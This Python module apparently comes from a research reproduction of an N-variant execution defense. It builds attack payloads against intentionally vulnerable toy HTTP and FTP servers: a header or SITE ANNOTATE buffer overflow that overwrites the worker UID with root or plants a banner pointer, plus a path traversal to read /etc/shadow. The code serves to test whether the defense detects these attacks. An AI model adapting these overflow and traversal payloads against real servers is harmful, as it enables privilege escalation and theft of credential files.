"""Attack payload construction.

Payloads are ordinary HTTP requests -- the attacker uses the same channel as
legitimate clients (the paper's remote-attacker threat model), and the
N-variant framework replicates the bytes to every variant.  The interesting
part is the value of the vulnerable ``X-Annotation`` header: enough filler to
fill the 64-byte buffer, followed by the bytes the attacker wants written
over the server's cached UID fields (and optionally the banner pointer).

All payload builders return plain ``bytes`` so the same payloads drive the
single-process server (where the attack succeeds) and every N-variant
configuration (where it must be detected).
"""

from __future__ import annotations

import dataclasses
from typing import Sequence

from repro.apps.httpd.http import format_request
from repro.apps.httpd.vulnerable import ANNOTATION_BUFFER_SIZE, VULNERABLE_HEADER

#: Number of ``..`` components needed to escape the default document root
#: (``/var/www/html``) back to ``/``.
TRAVERSAL_DEPTH = 3

#: The root-owned file the attacker wants to read once privileges are retained.
DEFAULT_TARGET_FILE = "/etc/shadow"


def traversal_path(target_file: str = DEFAULT_TARGET_FILE) -> str:
    """A request path that escapes the docroot and reaches *target_file*."""
    return "/" + "../" * TRAVERSAL_DEPTH + target_file.lstrip("/")


@dataclasses.dataclass(frozen=True)
class OverflowSpec:
    """Describes what the header overflow should write past the buffer.

    ``fields`` is an ordered list of 4-byte little-endian words written
    immediately after the filler, i.e. over ``worker_uid``, ``worker_gid``,
    ``admin_uid`` and ``banner_ptr`` in that order.  ``partial_bytes`` trims
    the *last* word to that many low-order bytes, modelling a partial
    overwrite that stops mid-word.
    """

    fields: tuple[int, ...]
    partial_bytes: int = 4
    filler: bytes = b"A"

    def header_value(self) -> str:
        """Render the overflow as an ``X-Annotation`` header value."""
        if not self.fields:
            raise ValueError("an overflow needs at least one field to write")
        if not 1 <= self.partial_bytes <= 4:
            raise ValueError("partial_bytes must be between 1 and 4")
        payload = bytearray(self.filler * ANNOTATION_BUFFER_SIZE)
        words = list(self.fields)
        for index, word in enumerate(words):
            encoded = (word & 0xFFFFFFFF).to_bytes(4, "little")
            if index == len(words) - 1:
                encoded = encoded[: self.partial_bytes]
            payload.extend(encoded)
        # Header values travel as latin-1 text; every byte value is representable.
        return payload.decode("latin-1")


def uid_overwrite_payload(
    uid: int = 0,
    *,
    path: str | None = None,
    partial_bytes: int = 4,
) -> bytes:
    """A request whose header overflow overwrites ``worker_uid`` with *uid*.

    With ``partial_bytes=4`` this is the complete-value corruption the UID
    variation is guaranteed to detect; smaller values model the byte-level
    partial overwrites discussed in Section 2.3.  The request path defaults
    to a traversal that reads ``/etc/shadow`` so a successful (undetected)
    attack has an observable goal.
    """
    spec = OverflowSpec(fields=(uid,), partial_bytes=partial_bytes)
    headers = {VULNERABLE_HEADER: spec.header_value()}
    return format_request(path or traversal_path(), headers=headers)


def banner_pointer_payload(address: int) -> bytes:
    """Overwrite the banner pointer with an absolute *address*.

    The filler preserves plausible values for the three UID/GID words it must
    cross (they are overwritten with zeros, which also corrupts them -- a real
    overflow cannot skip bytes), then plants the attacker's pointer.  Under
    address-space partitioning the injected address is valid in at most one
    variant, so the next banner dereference faults in the other.
    """
    spec = OverflowSpec(fields=(0, 0, 0, address))
    return format_request("/index.html", headers={VULNERABLE_HEADER: spec.header_value()})


def benign_request(path: str = "/index.html", annotation: str | None = None) -> bytes:
    """A well-formed request, optionally with a short (in-bounds) annotation."""
    headers = {}
    if annotation is not None:
        if len(annotation) >= ANNOTATION_BUFFER_SIZE:
            raise ValueError("a benign annotation must fit in the buffer")
        headers[VULNERABLE_HEADER] = annotation
    return format_request(path, headers=headers)


# ---------------------------------------------------------------------------
# FTP payloads (the second serving workload)
# ---------------------------------------------------------------------------
#
# The mini-ftpd reuses the httpd's vulnerable state layout byte-for-byte, so
# the same :class:`OverflowSpec` words drive both applications; only the
# carrier differs: a ``SITE ANNOTATE`` command line instead of an
# ``X-Annotation`` header.  Every overflow word the standard attacks use
# (0, 1000, 1001, the injected banner addresses) is CR/LF-free, so the
# rendered overflow survives FTP's line framing unmangled.

#: The scripted FTP client's login pair.
FTP_USER = "anonymous"
FTP_PASSWORD = "guest"

#: Default benign RETR target on the FTP site.
DEFAULT_FTP_PATH = "/welcome.txt"


def format_ftp_commands(commands: list[str]) -> bytes:
    """Serialise an FTP conversation: CRLF-joined latin-1 command lines."""
    return "".join(command + "\r\n" for command in commands).encode("latin-1")


def ftp_conversation(paths: Sequence[str], *, annotation: str | None = None) -> bytes:
    """A full login/annotate/retrieve/quit conversation."""
    commands = [f"USER {FTP_USER}", f"PASS {FTP_PASSWORD}"]
    if annotation is not None:
        commands.append(f"SITE ANNOTATE {annotation}")
    commands.extend(f"RETR {path}" for path in paths)
    commands.append("QUIT")
    return format_ftp_commands(commands)


def ftp_benign_request(path: str = DEFAULT_FTP_PATH, annotation: str | None = None) -> bytes:
    """A well-formed FTP conversation, optionally with an in-bounds annotation."""
    if annotation is not None and len(annotation) >= ANNOTATION_BUFFER_SIZE:
        raise ValueError("a benign annotation must fit in the buffer")
    return ftp_conversation([path], annotation=annotation)


def ftp_uid_overwrite_payload(
    uid: int = 0,
    *,
    path: str | None = None,
    partial_bytes: int = 4,
) -> bytes:
    """An FTP conversation whose annotation overflow overwrites ``worker_uid``.

    The overflow bytes are identical to :func:`uid_overwrite_payload`'s; the
    RETR path defaults to the same ``/etc/shadow`` traversal (``..`` clamps
    at the filesystem root, so one traversal string escapes any docroot).
    """
    spec = OverflowSpec(fields=(uid,), partial_bytes=partial_bytes)
    return ftp_conversation([path or traversal_path()], annotation=spec.header_value())


def ftp_banner_pointer_payload(address: int) -> bytes:
    """An FTP conversation that overwrites the banner pointer with *address*.

    The following RETR dereferences the planted pointer (the ftpd's
    per-transfer banner touch), mirroring :func:`banner_pointer_payload`.
    """
    spec = OverflowSpec(fields=(0, 0, 0, address))
    return ftp_conversation([DEFAULT_FTP_PATH], annotation=spec.header_value())
